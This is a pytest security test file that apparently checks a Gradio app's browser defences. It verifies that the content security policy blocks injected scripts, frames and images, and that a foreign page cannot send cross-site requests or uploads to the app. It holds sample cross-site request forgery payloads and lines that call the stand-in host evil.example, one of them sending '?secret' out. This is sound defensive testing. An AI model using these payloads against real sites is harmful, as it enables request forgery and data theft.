"""What Chromium may run and send: only the app's own scripts, and nothing from other sites."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.conftest import FEATURES, FLAGS, PATIENCE, App, ready, wait_for
from tools.browser import ensure

WATCH = """
window.violations = [];
addEventListener("securitypolicyviolation",
  ({ effectiveDirective: what, blockedURI, sourceFile }) => violations.push(`${what} ${blockedURI} ${sourceFile}`));
"""
FOREIGN = "evil.example"
# Every way in which a page of another site can send a request to the app or make the app fetch something.
ATTACK = """
<iframe name="frame" src="APP/"></iframe><iframe name="posted"></iframe>
<img src="APP/gradio_api/file=SELF/fetched.png"><script src="APP/config"></script>
<form id="form" action="APP/gradio_api/upload" method="post" enctype="multipart/form-data" target="posted">
<input name="files" value="x"></form>
<script>
const JSON_TEXT = {"Content-Type": "text/plain"}, JSON_TYPE = {"Content-Type": "application/json"};
document.title = "waiting";
const tries = [
  fetch("APP/config", {credentials: "include"}),
  fetch("APP/gradio_api/call/runs", {method: "POST", credentials: "include", headers: JSON_TYPE,
    body: '{"data": []}'}),
  fetch("APP/gradio_api/call/runs", {method: "POST", mode: "no-cors", headers: JSON_TEXT, body: '{"data": []}'}),
  fetch("APP/gradio_api/component_server", {method: "POST", mode: "no-cors", headers: JSON_TEXT, body: "{}"}),
  new Promise((done, refused) => {
    const stream = new EventSource("APP/gradio_api/heartbeat/x", {withCredentials: true});
    stream.onopen = done; stream.onerror = refused;
  }),
];
document.getElementById("form").submit();
Promise.allSettled(tries).then((ended) => { document.title = ended.map((one) =>
  one.status === "rejected" ? "refused" : one.value.type ?? "open").join(" "); });
</script>
"""


@pytest.mark.parametrize(
    ("script", "blocked"),
    [
        ("element = document.createElement('script'); element.text = 'ran = true'", "script-src-elem inline"),
        ("element = document.createElement('img'); element.src = 'x:'; element.setAttribute('onerror', 'ran = true')",
         "script-src-attr inline"),
        ("element = document.createElement('script'); element.src = 'http://evil.example/x.js'",
         "script-src-elem http://evil.example/x.js"),
        ("element = document.createElement('iframe'); element.src = 'http://evil.example/'",
         "frame-src http://evil.example"),
        ("element = document.createElement('img'); element.src = 'http://evil.example/?secret'",
         "img-src http://evil.example"),
    ],
)  # fmt: skip
def test_markup_of_others_would_run_nothing(app: App, browser: Any, script: str, blocked: str) -> None:
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(app.address)
    ready(page)
    page.evaluate(f"() => {{ let element; {script}; document.head.append(element); }}")
    page.wait_for_function("() => violations.length > 0")
    assert page.evaluate("violations")[0].startswith(blocked)
    assert page.evaluate("typeof ran") == "undefined"
    context.close()


@pytest.fixture
def foreign(app: App, browser: Any) -> Iterator[tuple[Any, str, list[str]]]:
    """A Chromium that resolves the name of a foreign site, the site's address, and the requests that it received."""
    asked: list[str] = []

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            here = f"http://{self.headers['Host']}"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(ATTACK.replace("APP", app.address).replace("SELF", here).encode())

        def log_message(self, *_: Any) -> None:
            pass

    site = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    # Chromium's own protection of local networks is off, because other browsers have none.
    protection = "LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,BlockInsecurePrivateNetworkRequests"
    features = f"--disable-features={','.join(FEATURES)},{protection}"
    flags = [*FLAGS, f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1", features]
    own = browser.browser_type.launch(executable_path=str(ensure()), args=flags, timeout=PATIENCE)
    yield own, f"http://{FOREIGN}:{site.server_port}", asked
    own.close()
    site.shutdown()


def test_a_page_of_another_site_reaches_nothing(app: App, foreign: tuple[Any, str, list[str]]) -> None:
    browser, address, asked = foreign
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    own = context.new_page()
    own.goto(app.address)  # so that the browser has cookies of the app, which it could send
    ready(own)
    page = context.new_page()
    answers: dict[str, int] = {}
    place = len(app.address)
    page.on("response", lambda answer: answer.url.startswith(app.address) and answers.update(
        {f"{answer.request.method} {answer.url[place:].partition('=')[0]}": answer.status}))  # fmt: skip
    with page.expect_response(lambda answer: answer.url == f"{app.address}/gradio_api/upload"):  # to the form
        page.goto(address)
    page.wait_for_function("() => document.title !== 'waiting' && document.readyState === 'complete'")
    assert set(page.title().split()) == {"refused"}
    # A link to the page may be followed from anywhere; in a frame, Chromium shows an error instead of the page.
    wait_for(page, lambda: {"GET /", "POST /gradio_api/upload"} <= answers.keys())
    assert answers.pop("GET /") == 200 and not page.frame("frame").url.startswith(app.address)
    # Chromium does not report answers that it hides from the page.
    assert answers["POST /gradio_api/upload"] == 403 and set(answers.values()) == {403}, answers
    assert not [path for path in asked if "fetched" in path]
    context.close()
